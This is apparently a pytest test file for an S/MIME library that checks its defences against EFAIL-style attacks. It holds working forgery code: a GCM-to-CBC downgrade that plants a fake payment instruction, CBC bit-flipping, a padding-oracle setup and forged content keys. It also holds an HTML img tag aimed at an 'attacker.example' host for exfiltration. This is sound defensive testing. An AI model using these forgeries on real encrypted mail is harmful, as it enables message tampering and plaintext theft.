"""Unauthenticated content: the GCM -> CBC downgrade, padding oracles, forged keys.

Issue 9's findings, rebuilt as an attacker would: only public material (the captured
message, the recipient's certificate, plaintext any mail of that kind starts with) goes
into a forgery. The recipient's key appears only where the test plays the recipient.
"""

from __future__ import annotations

import os
import random
from email.message import EmailMessage
from pathlib import Path

import pytest
from asn1crypto import cms
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.asymmetric import padding as asym_padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from helpers import PLAIN, body_text

import smime
from smime import mime
from smime.cms._schema import ContentInfo
from smime.cms.enveloped import RecipientSpec, create_enveloped_data, decrypt_enveloped_data
from smime.errors import DecryptionError

LONG = PLAIN + b"".join(
    b"Line %02d of the statement, nothing to see here.\r\n" % i for i in range(40)
)
UNAUTHENTICATED = "unauthenticated_content"  # ProblemCode.UNAUTHENTICATED_CONTENT, a stable str



# ---------------------------------------------------------------------------- forging tools


def _xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b, strict=True))


def _der(message: EmailMessage) -> bytes:
    part = mime.find_smime_part(message.as_bytes())
    assert part is not None and part.der is not None
    return part.der


def _message(der: bytes, smime_type: str = "enveloped-data") -> bytes:
    """The forged CMS as a mail, with the headers of the captured one."""
    outer = (("From", "Alice <alice@example.com>"), ("To", "Bob <bob@example.com>"))
    return mime.build_pkcs7_mime(der, smime_type=smime_type, outer_headers=outer).as_bytes()


def _cbc_envelope(recipient_infos: cms.RecipientInfos, iv: bytes, ciphertext: bytes) -> bytes:
    """An AES-256-CBC EnvelopedData around ``ciphertext`` for the given recipients."""
    envelope = cms.EnvelopedData({
        "version": "v0",
        "recipient_infos": recipient_infos,
        "encrypted_content_info": {
            "content_type": "data",
            "content_encryption_algorithm": {"algorithm": "aes256_cbc", "parameters": iv},
            "encrypted_content": ciphertext,
        },
    })
    return cms.ContentInfo({"content_type": "enveloped_data", "content": envelope}).dump()


def _eci(info: cms.ContentInfo) -> cms.EncryptedContentInfo:
    """The encryptedContentInfo of an enveloped or auth-enveloped ContentInfo."""
    content = info["content"]
    return content[
        "auth_encrypted_content_info" if "auth_encrypted_content_info" in content
        else "encrypted_content_info"
    ]


def _with_ciphertext(der: bytes, ciphertext: bytes) -> bytes:
    info = cms.ContentInfo.load(der)
    _eci(info)["encrypted_content"] = ciphertext
    return info.dump(force=True)


def _ciphertext(der: bytes) -> bytes:
    return bytes(_eci(cms.ContentInfo.load(der))["encrypted_content"].native)


def _with_encrypted_key(der: bytes, encrypted_key: bytes) -> bytes:
    info = cms.ContentInfo.load(der)
    ktri = info["content"]["recipient_infos"][0].chosen
    ktri["encrypted_key"] = encrypted_key
    return info.dump(force=True)


def downgrade(
    sealed: EmailMessage, known: bytes, chosen: list[bytes]
) -> tuple[bytes, dict[int, bytes]]:
    """Issue 9's downgrade: the recipient infos of an AES-256-GCM message, reused for CBC.

    GCM encrypts block j as P_j XOR AES_K(nonce || j+2), so one known plaintext block
    gives AES_K(X) for a known X: a block B = AES_K(X) decrypts in CBC to X XOR (the block
    before it). Choosing that previous block as X XOR Q makes the next block read Q, at
    the price of one block of garbage before it (the EFAIL "CBC gadget"); the IV makes
    the first block chosen too. The key K is never needed. Returns the forged mail and
    where each chosen block will appear in its padded plaintext.
    """
    der = _der(sealed)
    envelope = ContentInfo.load(der)["content"]  # ours: asn1crypto's has no GCM parameters
    params = envelope["auth_encrypted_content_info"]["content_encryption_algorithm"]["parameters"]
    nonce = params["aes_nonce"].native
    assert len(nonce) == 12  # J0 = nonce || 1, the first block is encrypted with nonce || 2
    x = nonce + (2).to_bytes(4, "big")
    gadget = _xor(_ciphertext(der)[:16], known[:16])  # AES_K(x), learnt from known text
    assert all(len(q) == 16 for q in chosen)
    iv = _xor(x, chosen[0])
    blocks = [gadget]
    for q in chosen[1:]:
        blocks += [_xor(x, q), gadget]
    forged = _cbc_envelope(envelope["recipient_infos"], iv, b"".join(blocks))
    return _message(forged), {32 * i: q for i, q in enumerate(chosen)}


# ---------------------------------------------------------------------------- GCM -> CBC


CHOSEN = [
    b"\r\nWire 9,999 EUR",  # an empty header section: the rest is the body
    b" to IBAN DE00 00",
    b"00 0000 0000 00.",
    b"Urgent, Alice.\r\n",
    b"Sent from phone\x01",  # ends with valid PKCS#7 padding
]


def test_gcm_recipient_info_in_cbc_decrypts_to_attacker_text(pki, trust):
    bob = pki["bob"].identity
    sealed = smime.encrypt(PLAIN, pki["bob"].certificate, cipher="aes-256-gcm")
    known = mime.prepare_entity(PLAIN).entity[:16]  # "Content-Type: te": every mail has it
    forged, placed = downgrade(sealed, known, CHOSEN)

    # Today's finding: it decrypts without an error, to text the attacker chose.
    padded = decrypt_enveloped_data(_der(mime.to_message(forged)), bob).content + b"\x01"
    assert len(padded) == 16 * (2 * len(CHOSEN) - 1)
    for offset, block in placed.items():
        assert padded[offset : offset + 16] == block
    opened = smime.decrypt(forged, bob)
    assert opened.authenticated is False
    text = opened.as_bytes()
    assert b"Wire 9,999 EUR" in text and b" to IBAN DE00 00" in text

    # The fix: refused on request, and reported by unwrap.
    with pytest.raises(DecryptionError, match="require_authenticated=True") as err:
        smime.decrypt(forged, bob, require_authenticated=True)
    assert "EFAIL" in str(err.value)
    with pytest.raises(DecryptionError, match="require_authenticated=True"):
        smime.unwrap(forged, identity=bob, trust=trust, require_authenticated=True)
    unwrapped = smime.unwrap(forged, identity=bob, trust=trust)
    assert [w.code for w in unwrapped.warnings] == [UNAUTHENTICATED]
    assert "aes-256-cbc" in str(unwrapped.warnings[0])
    assert "may have been altered" in str(unwrapped.warnings[0])
    assert "warning: the content was encrypted with aes-256-cbc" in unwrapped.summary()

    # The genuine GCM message passes every check.
    assert "Balance" in body_text(smime.decrypt(sealed, bob, require_authenticated=True))
    genuine = smime.unwrap(sealed, identity=bob, trust=trust, require_authenticated=True)
    assert genuine.warnings == () and "aes-256-gcm, authenticated" in genuine.summary()


# ---------------------------------------------------------------------------- signed inside


@pytest.mark.parametrize("detached", [True, False])
def test_cbc_with_a_signature_inside_is_accepted(pki, trust, detached):
    bob = pki["bob"].identity
    signed = smime.sign(LONG, pki["alice"].identity, detached=detached)
    sealed = smime.encrypt(signed, pki["bob"].certificate, cipher="aes-256-cbc")
    opened = smime.decrypt(sealed, bob, require_authenticated=True)
    assert opened.authenticated is False  # the cipher has no integrity; the signature does
    assert smime.verify(opened, trust).valid
    unwrapped = smime.unwrap(sealed, identity=bob, trust=trust, require_authenticated=True)
    assert [layer.kind for layer in unwrapped.layers] == ["encrypted", "signed"]
    assert unwrapped.valid and unwrapped.warnings == ()
    assert "Line 39" in body_text(unwrapped.content)


def test_cbc_with_an_invalid_signature_inside_is_refused_by_unwrap(pki, trust):
    """``decrypt`` judges no trust; ``unwrap`` needs the inner signature to be valid."""
    bob = pki["bob"].identity
    signed = smime.sign(LONG, pki["alice"].identity)
    sealed = smime.encrypt(signed, pki["bob"].certificate, cipher="aes-256-cbc")
    untrusted = smime.TrustStore.from_certificates([pki["frank"].certificate])
    smime.decrypt(sealed, bob, require_authenticated=True)
    with pytest.raises(DecryptionError, match="no valid signature"):
        smime.unwrap(sealed, identity=bob, trust=untrusted, require_authenticated=True)
    opened = smime.unwrap(sealed, identity=bob, trust=untrusted)
    assert not opened.valid and [w.code for w in opened.warnings] == [UNAUTHENTICATED]


def _flip(sealed: EmailMessage, plaintext: bytes, marker: bytes, delta: int) -> bytes:
    """EFAIL's malleability: XOR the last byte of ``marker`` in the plaintext with ``delta``.

    The ciphertext block before it turns to garbage; the marker is chosen deep in a body,
    so the garbage stays inside the body.
    """
    der = _der(sealed)
    at = plaintext.index(marker) + len(marker) - 1
    block, offset = divmod(at, 16)
    assert block >= 2
    ciphertext = bytearray(_ciphertext(der))
    ciphertext[(block - 1) * 16 + offset] ^= delta
    return _message(_with_ciphertext(der, bytes(ciphertext)))


def test_tampered_content_signed_inside_is_refused(pki, trust):
    bob = pki["bob"].identity
    signed = smime.sign(LONG, pki["alice"].identity)
    sealed = smime.encrypt(signed, pki["bob"].certificate, cipher="aes-256-cbc")
    plaintext = decrypt_enveloped_data(_der(sealed), bob).content
    tampered = _flip(sealed, plaintext, b"Line 2", ord("2") ^ ord("9"))

    assert b"90 of the statement" in smime.decrypt(tampered, bob).as_bytes()  # unnoticed
    with pytest.raises(DecryptionError, match="no intact signature"):
        smime.decrypt(tampered, bob, require_authenticated=True)
    with pytest.raises(DecryptionError, match="no valid signature"):
        smime.unwrap(tampered, identity=bob, trust=trust, require_authenticated=True)
    opened = smime.unwrap(tampered, identity=bob, trust=trust)
    assert not opened.valid
    assert [w.code for w in opened.warnings] == [UNAUTHENTICATED]


def test_a_signed_part_beside_unsigned_ones_does_not_vouch(pki, trust):
    """EFAIL wraps genuine signed parts in attacker multiparts: a part vouches for itself."""
    bob = pki["bob"].identity
    signed = smime.sign(PLAIN, pki["alice"].identity).as_bytes()
    mixed = (
        b'Content-Type: multipart/mixed; boundary="xx"\r\n\r\n'
        b'--xx\r\nContent-Type: text/html\r\n\r\n<img src="https://attacker.example/\r\n'
        b"--xx\r\n" + signed + b"\r\n--xx--\r\n"
    )
    assert smime.verify(signed, trust).valid
    sealed = smime.encrypt(mixed, pki["bob"].certificate, cipher="aes-256-cbc")
    opened = smime.unwrap(sealed, identity=bob, trust=trust)
    assert [layer.kind for layer in opened.layers] == ["encrypted", "signed"]
    assert opened.layers[1].path == "2"
    assert [w.code for w in opened.warnings] == [UNAUTHENTICATED]
    with pytest.raises(DecryptionError):
        smime.unwrap(sealed, identity=bob, trust=trust, require_authenticated=True)
    with pytest.raises(DecryptionError):
        smime.decrypt(sealed, bob, require_authenticated=True)


def test_compressed_then_signed_inside_cbc_vouches(pki, trust):
    bob = pki["bob"].identity
    inner = smime.compress(smime.sign(LONG, pki["alice"].identity))
    sealed = smime.encrypt(inner, pki["bob"].certificate, cipher="aes-256-cbc")
    opened = smime.unwrap(sealed, identity=bob, trust=trust, require_authenticated=True)
    assert [layer.kind for layer in opened.layers] == ["encrypted", "compressed", "signed"]
    assert opened.warnings == ()


def test_unwrap_of_bare_text_in_cbc_warns_instead_of_failing(pki):
    """Some tools encrypt bare text, not a MIME entity: there is nothing more to peel."""
    bob = pki["bob"].identity
    der = create_enveloped_data(
        b"just some text\r\n", [RecipientSpec(certificate=pki["bob"].certificate)]
    )
    bare = _message(der)
    opened = smime.unwrap(bare, identity=bob)
    assert b"just some text" in opened.content.as_bytes()
    assert [w.code for w in opened.warnings] == [UNAUTHENTICATED]


# ---------------------------------------------------------------------------- padding oracle


def _padding_value(plaintext: bytes) -> int:
    return 16 - len(plaintext) % 16


def test_require_authenticated_gives_a_padding_oracle_nothing(pki, trust):
    """Issue 9 recovered a CBC plaintext from "DecryptionError or not" alone.

    By default the two answers still differ (CBC cannot be fixed: docs/security.md); with
    ``require_authenticated=True`` a tampered message whose padding survived and one whose
    padding broke give the same exception with the same words, as does a wrong key.
    """
    bob = pki["bob"].identity
    sealed = smime.encrypt(LONG, pki["bob"].certificate, cipher="aes-256-cbc")
    der = _der(sealed)
    plaintext = decrypt_enveloped_data(der, bob).content
    good_padding = _flip(sealed, plaintext, b"Line 2", 0x01)
    ciphertext = bytearray(_ciphertext(der))
    ciphertext[-17] ^= _padding_value(plaintext) ^ 0x11  # the last byte now reads 17
    bad_padding = _message(_with_ciphertext(der, bytes(ciphertext)))

    smime.decrypt(good_padding, bob)  # the oracle's "yes" ...
    with pytest.raises(DecryptionError) as err:  # ... and its "no"
        smime.decrypt(bad_padding, bob)
    assert str(err.value) == DecryptionError.MESSAGE

    answers = set()
    for message, identity in [
        (good_padding, bob),
        (bad_padding, bob),
        (sealed.as_bytes(), bob),
        (sealed.as_bytes(), pki["alice"].identity),
    ]:
        with pytest.raises(DecryptionError) as err:
            smime.decrypt(message, identity, require_authenticated=True)
        answers.add((type(err.value), str(err.value)))
    assert len(answers) == 1, answers

    answers = set()
    for message in (good_padding, bad_padding, sealed.as_bytes()):
        with pytest.raises(DecryptionError) as err:
            smime.unwrap(message, identity=bob, trust=trust, require_authenticated=True)
        answers.add((type(err.value), str(err.value)))
    assert len(answers) == 1, answers


# ---------------------------------------------------------------------------- forged keys


def test_forged_encrypted_key_fails_on_the_gcm_tag(pki):
    """A wrong content key of the right length cannot get past AES-GCM's tag.

    Random bytes (PKCS#1 v1.5 implicit rejection turns them into a random key) and a
    well-formed encryption of a random key to Bob's public key alike: one message.
    """
    bob = pki["bob"]
    public = bob.certificate.public_key()
    sealed = smime.encrypt(PLAIN, bob.certificate, cipher="aes-256-gcm")
    der = _der(sealed)
    length = len(cms.ContentInfo.load(der)["content"]["recipient_infos"][0].chosen[
        "encrypted_key"].native)
    forgeries = [os.urandom(length) for _ in range(8)] + [
        public.encrypt(os.urandom(32), asym_padding.PKCS1v15()) for _ in range(8)
    ]
    for encrypted_key in forgeries:
        forged = _message(_with_encrypted_key(der, encrypted_key), "authEnveloped-data")
        for strict in (False, True):
            with pytest.raises(DecryptionError) as err:
                smime.decrypt(forged, bob.identity, require_authenticated=strict)
            assert str(err.value) == DecryptionError.MESSAGE


def _cbc_key_with_valid_padding(ciphertext: bytes, iv: bytes, seed: int) -> bytes:
    """A content key under which ``ciphertext`` happens to unpad: about 1 key in 256."""
    rng = random.Random(seed)
    for _ in range(100_000):
        key = rng.randbytes(32)
        decryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).decryptor()
        plain = decryptor.update(ciphertext) + decryptor.finalize()
        unpadder = padding.PKCS7(128).unpadder()
        try:
            unpadder.update(plain[-16:]) + unpadder.finalize()
        except ValueError:
            continue
        return key
    raise AssertionError("no key found")


def test_forged_encrypted_key_on_cbc_is_garbage_unless_refused(pki, trust):
    """With CBC a forged key decrypts to garbage about once in 256 tries (issue 9: 12 of
    3,000); nothing in CBC can notice. ``require_authenticated`` refuses the garbage."""
    bob = pki["bob"]
    sealed = smime.encrypt(PLAIN, bob.certificate, cipher="aes-256-cbc")
    der = _der(sealed)
    eci = cms.ContentInfo.load(der)["content"]["encrypted_content_info"]
    iv = eci["content_encryption_algorithm"]["parameters"].native
    key = _cbc_key_with_valid_padding(_ciphertext(der), iv, seed=9)
    encrypted_key = bob.certificate.public_key().encrypt(key, asym_padding.PKCS1v15())
    forged = _message(_with_encrypted_key(der, encrypted_key))

    garbage = smime.decrypt(forged, bob.identity)  # "success": documented, not fixable
    assert garbage.authenticated is False and b"Balance" not in garbage.as_bytes()
    with pytest.raises(DecryptionError, match="require_authenticated=True"):
        smime.decrypt(forged, bob.identity, require_authenticated=True)
    opened = smime.unwrap(forged, identity=bob.identity, trust=trust)
    assert [w.code for w in opened.warnings] == [UNAUTHENTICATED]
    with pytest.raises(DecryptionError, match="require_authenticated=True"):
        smime.unwrap(forged, identity=bob.identity, trust=trust, require_authenticated=True)


# ---------------------------------------------------------------------------- cipher="auto"


def test_auto_cipher_is_gcm_for_every_recipient_known_to_read_it(pki, trust, tmp_path: Path):
    bob, alice = pki["bob"], pki["alice"]
    both = [bob.certificate, alice.certificate]
    gcm = ["aes-256-gcm", "aes-256-cbc"]

    def kind(**kwargs: object) -> str:
        sealed = smime.encrypt(PLAIN, kwargs.pop("to", both), **kwargs)  # type: ignore[arg-type]
        return str(sealed.get_param("smime-type"))

    assert kind(capabilities=gcm) == "authEnveloped-data"
    known = {"bob@example.com": gcm, "alice@example.com": gcm}
    assert kind(capabilities=known) == "authEnveloped-data"
    # one recipient not known to read GCM (announced only CBC, or nothing) -> CBC for all
    assert kind(capabilities={**known, "alice@example.com": ["aes-256-cbc"]}) == "enveloped-data"
    assert kind(capabilities={"bob@example.com": gcm}) == "enveloped-data"
    assert kind() == "enveloped-data"

    # what a correspondent announced in a signed message counts as known, via the store
    store = smime.CertificateStore(tmp_path / "store.db")
    for user in (bob, alice):
        result = smime.verify(smime.sign(PLAIN.replace(b"alice", user.name.encode()),
                                         user.identity), trust)
        assert result.valid and "aes-256-gcm" in result.signers[0].capabilities
        store.harvest(result)
    assert kind(to=["bob@example.com", "alice@example.com"], store=store) == "authEnveloped-data"
    assert kind(to=[bob.certificate, pki["carol"].certificate], store=store) == "enveloped-data"
